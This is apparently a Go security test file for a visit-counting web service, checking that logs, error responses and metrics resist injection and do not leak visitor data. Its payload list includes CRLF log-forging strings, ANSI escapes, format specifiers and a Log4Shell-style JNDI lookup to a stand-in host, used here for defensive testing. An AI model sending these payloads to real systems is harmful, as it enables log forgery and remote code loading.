package attacks

import (
	"context"
	"fmt"
	"net"
	"net/http"
	"strings"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"footfall/handler"
	"footfall/handler/routing"
)

// injections are texts that an attacker would like to appear in a log, or in the terminal of its reader.
var injections = []string{
	"x%0d%0atime=2026-01-01T00:00:00Z+level=ERROR+msg=FORGED", "%1b[31mFORGED%1b[0m", "%0a{\"level\":\"ERROR\",\"msg\":\"FORGED\"}",
	"FORGED%00",
	"%ff%fe", "%e2%80%aeFORGED", "%22+FORGED=%22",
	"${jndi:ldap://198.51.100.77/FORGED}", "{long}", "%25s%25n%25x", "FORGED%7f%c2%85%e2%80%a8",
}

var logAttacks = []attack{
	{
		name:     "injected log records",
		sent:     "line ends, ANSI, JSON, NUL, bad UTF-8, 30,000 letters in app, uri, ip, key, path, method, and every header that is read",
		answered: "4xx or 200",
		stored:   "in the log, nothing", story: injected,
	},
	{
		name:     "injected through bytes that are not HTTP",
		sent:     "the cases of \"bytes that are not HTTP\" through a trusted proxy's listener, connections cut in the middle",
		answered: "4xx, or nothing", stored: "in the log, nothing",
		story: injectedRaw,
	},
	{
		name:     "errors that are logged",
		sent:     "visits from a known address to a known page while a table is gone, and while the tables refuse that very visitor",
		answered: "500 and 503 in general words",
		stored:   "in the log one-line records, without address, page or key", story: faults,
	},
	{
		name:     "a fault outside of every handler",
		sent:     "a request whose handling panics beyond our guard, over IPv4 and IPv6",
		answered: "nothing", stored: "in the log one record, with (address) for the client's",
		story: panicsOutside,
	},
	{
		name:     "keys and addresses in metrics",
		sent:     "all of the above",
		answered: "/metrics with routes, codes, outcomes", stored: "no address, page, app or key", story: metricsAreNobodys,
	},
}

func injected(w *world) {
	for _, text := range injections {
		raw := strings.NewReplacer("%0d", "\r", "%0a", "\n", "%1b", "\x1b", "%00", "\x00", "%ff", "\xff", "+", " ").Replace(text)
		for _, request := range []string{
			"GET /visit?app=" + text + "&uri={uri}", "GET /visit?app=shop&uri=" + text, "GET /visit?app=shop&uri={uri}" + text,
			"GET /visit?app=shop&uri=http://" + text + ".example/",
			"GET /visit?app=demo&uri={uri}&ip=" + text, "GET /visit?app=ids&uri={uri}&visitor=" + text + bearerOf + "{ids}",
			"GET /visit?" + text + "=" + text, "GET /" + text, "FORGED" + text + " /visit",
			"GET /visit?app=shop&uri={uri}\nAuthorization: Bearer " + text, "GET /visit?app=shop&uri={uri}\nOrigin: http://" + text,
			"GET /visit?app=shop&uri={uri}\nUser-Agent: " + text,
			"GET /visit?app=shop&uri={uri}\nReferer: http://" + text, "GET /visit?app=shop&uri={uri}\nHost: " + text,
			"GET /visit?app=shop&uri={uri}\nSec-Purpose: " + text,
			"POST /visit\nContent-Type: " + text + "\n\n{}", "POST /visit\n\n" + raw, "POST /visit\n\n" + `{"app":"` + raw + `","uri":"{uri}"}`,
			"POST /visit\n\n" + `{"` + raw + `":"{uri}"}`,
		} {
			w.page++
			request, body, hasBody := strings.Cut(request, "\n\n")
			request += from + "198.51.100.77"
			if hasBody {
				request += "\n\n" + body
			}
			a := w.send(proxied, request)
			assert.True(w.t, a.status == 200 || 400 <= a.status && a.status < 500, "%d %s", a.status, request)
		}
		w.send(proxied, visitShop+from+text)
	}
}

func injectedRaw(w *world) {
	for _, bytes := range notRequests {
		bytes = strings.ReplaceAll(bytes, "Host: a", "X-Forwarded-For: 198.51.100.77\r\nHost: a")
		a := w.raw(w.public[proxied], http.MethodGet, bytes)
		assert.NotContains(w.t, []int{500, 502, 503}, a.status, "%q", bytes)
		for _, cut := range []int{len(bytes) / 2, len(bytes) - 1} {
			w.cut(w.public[proxied], bytes[:cut])
		}
	}
	for range 20 { // while the response is written
		w.cut(w.public[proxied], wire(w.expand(visitShop+from+"198.51.100.77")))
	}
}

func faults(w *world) {
	exec := func(sql string) { w.Exec(w.t, sql) }
	const page = "http://example.com/secret-page"
	requests := []string{
		"GET /visit?app=demo&ip=198.51.100.77&uri=" + page, "GET /visit?app=shop&uri=" + page + from + "198.51.100.77",
		"GET /visit?app=shop&ip=198.51.100.77&uri=" + page + bearerOf + "{assert}",
		"GET /counts?app=demo&ip=198.51.100.77&uri=" + page,
	}
	for _, fault := range []struct {
		breaks, mends string
		status        int
	}{
		{"ALTER TABLE counters RENAME TO away", "ALTER TABLE away RENAME TO counters", http.StatusServiceUnavailable},
		{"ALTER TABLE visitors ADD CONSTRAINT not_him CHECK (ip <> '198.51.100.77') NOT VALID", "ALTER TABLE visitors DROP CONSTRAINT not_him",
			http.StatusInternalServerError},
		{"ALTER TABLE visits ADD CONSTRAINT not_him CHECK (ip <> '198.51.100.77') NOT VALID", "ALTER TABLE visits DROP CONSTRAINT not_him",
			http.StatusInternalServerError},
	} {
		exec(fault.breaks)
		for _, request := range requests {
			a := w.send(proxied, request)
			if strings.HasPrefix(request, "GET /counts") && fault.status == http.StatusInternalServerError {
				continue // it only reads
			}
			assert.Equal(w.t, fault.status, a.status, "%s: %s: %s", fault.breaks, request, a.body)
			assert.NotRegexp(w.t, `secret-page|198\.51|not_him|away|relation`, a.body)
		}
		exec(fault.mends)
	}
	text, _ := w.log.read()
	assert.Contains(w.t, text, "not_him", "the log tells the operator what it was")
	assert.Contains(w.t, text, "status=500")
	assert.NotRegexp(w.t, `secret-page|Failing row|DETAIL`, text)
	w.counted(w.send(proxied, requests[0]))
}

// panicsOutside runs a server with a handler that is not ours: net/http logs its panic with the client's address.
func panicsOutside(w *world) {
	for _, address := range []string{"127.0.0.1:0", "[::1]:0"} {
		listener, err := net.Listen("tcp", address)
		if err != nil && strings.Contains(address, "::1") {
			w.t.Log("no IPv6 here:", err)
			continue
		}
		require.NoError(w.t, err)
		heard := new(records)
		server, _ := handler.Servers(handler.Options{Log: heard.logger(), Cells: routing.NewSingle(&routing.Cell{})})
		server.Handler = http.HandlerFunc(func(http.ResponseWriter, *http.Request) { panic("outside\nFORGED") })
		served := make(chan error)
		go func() { served <- server.Serve(listener) }()
		a := w.raw(listener.Addr().String(), http.MethodGet, wire("GET /"))
		assert.Zero(w.t, a.status)
		require.NoError(w.t, server.Shutdown(context.Background()))
		assert.ErrorIs(w.t, <-served, http.ErrServerClosed)
		text, _ := heard.read()
		assert.Equal(w.t, 1, strings.Count(text, "\n"), text)
		assert.Contains(w.t, text, "http: panic serving (address): outside")
		assert.NotRegexp(w.t, `127\.0\.0\.1|::1`, text)
	}
}

func metricsAreNobodys(w *world) {
	a := w.get(w.private[proxied] + "/metrics")
	for _, what := range []string{`route="/visit"`, `route="other"`, `code="400"`, `code="500"`, `code="503"`} {
		assert.True(w.t, strings.Contains(a.body, what), what)
	}
	for app := range attacked {
		assert.False(w.t, strings.Contains(a.body, fmt.Sprintf("%q", app)), app)
	}
	assert.NotRegexp(w.t, `secret-page|\d+\.\d+\.\d+\.\d+`, a.body)
}
